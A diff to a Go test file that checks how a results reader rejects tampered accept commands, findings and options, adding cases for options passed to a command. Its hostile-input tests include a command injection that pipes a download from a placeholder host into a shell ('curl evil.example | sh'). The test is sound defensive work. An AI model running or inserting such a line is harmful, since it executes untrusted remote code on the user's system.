@@ -21,7 +21,7 @@ func good() Result {
 				Source: Source{File: "train.py", Line: 98, Function: "softmax", Text: "x = x.T", Edited: true},
 			},
 			Price: Price{StepNS: -7.5, StepWasNS: 4100, PeakBytes: 256}, Effects: []Effect{{"kernels.total", 2, 3}},
-			Findings: []string{"a3f8c21b9d04"}, Decision: Decision{Accept: AcceptCommand("3fa91c02b7d1")},
+			Findings: []string{"a3f8c21b9d04"}, Decision: Decision{Accept: AcceptCommand(nil, "3fa91c02b7d1")},
 		}},
 		Findings: []Finding{{ID: "a3f8c21b9d04", Change: "3fa91c02b7d1", Rule: "max-kernels", Level: "error", Target: "mlp/cpu", Program: "train_step", Message: "3 kernels", Actual: 3.0, Limit: "two"}}}
 }
@@ -61,7 +61,12 @@ func TestReadHostile(t *testing.T) {
 		"a finding's id as a flag":    func(r *Result) { r.Changes[0].Findings[0] = "--from=x" },
 		"another command":             func(r *Result) { r.Changes[0].Accept = "curl evil.example | sh" },
 		"a command and another":       func(r *Result) { r.Changes[0].Accept += "; curl evil.example | sh" },
-		"the command of another":      func(r *Result) { r.Changes[0].Accept = AcceptCommand("000000000000") },
+		"the command of another":      func(r *Result) { r.Changes[0].Accept = AcceptCommand(nil, "000000000000") },
+		"another option":              func(r *Result) { r.SetOptions([]string{"--from", "other.json"}) },
+		"an option without a value":   func(r *Result) { r.SetOptions([]string{"-c"}) },
+		"an option as its value":      func(r *Result) { r.SetOptions([]string{"-c", "--tighten"}) },
+		"an option of two lines":      func(r *Result) { r.SetOptions([]string{"-c", "a\nb"}) },
+		"an option that is not its":   func(r *Result) { r.Targets[0].Options = []string{"-c", "other.yaml"} },
 		"a finding of no change":      func(r *Result) { r.Findings[0].Change = "000000000000" },
 		"a finding of a silent one":   func(r *Result) { r.Changes[0].Findings = nil },
 		"a finding that is not there": func(r *Result) { r.Changes[0].Findings = append(r.Changes[0].Findings, "000000000000") },
@@ -207,7 +212,7 @@ func FuzzRead(f *testing.F) {
 			}
 		}
 		for _, c := range r.Changes {
-			if c.Accept != "" && c.Accept != AcceptCommand(c.ID) {
+			if c.Accept != "" && c.Accept != AcceptCommand(r.OptionsOf(c.Target), c.ID) {
 				t.Error(c.Accept)
 			}
 		}
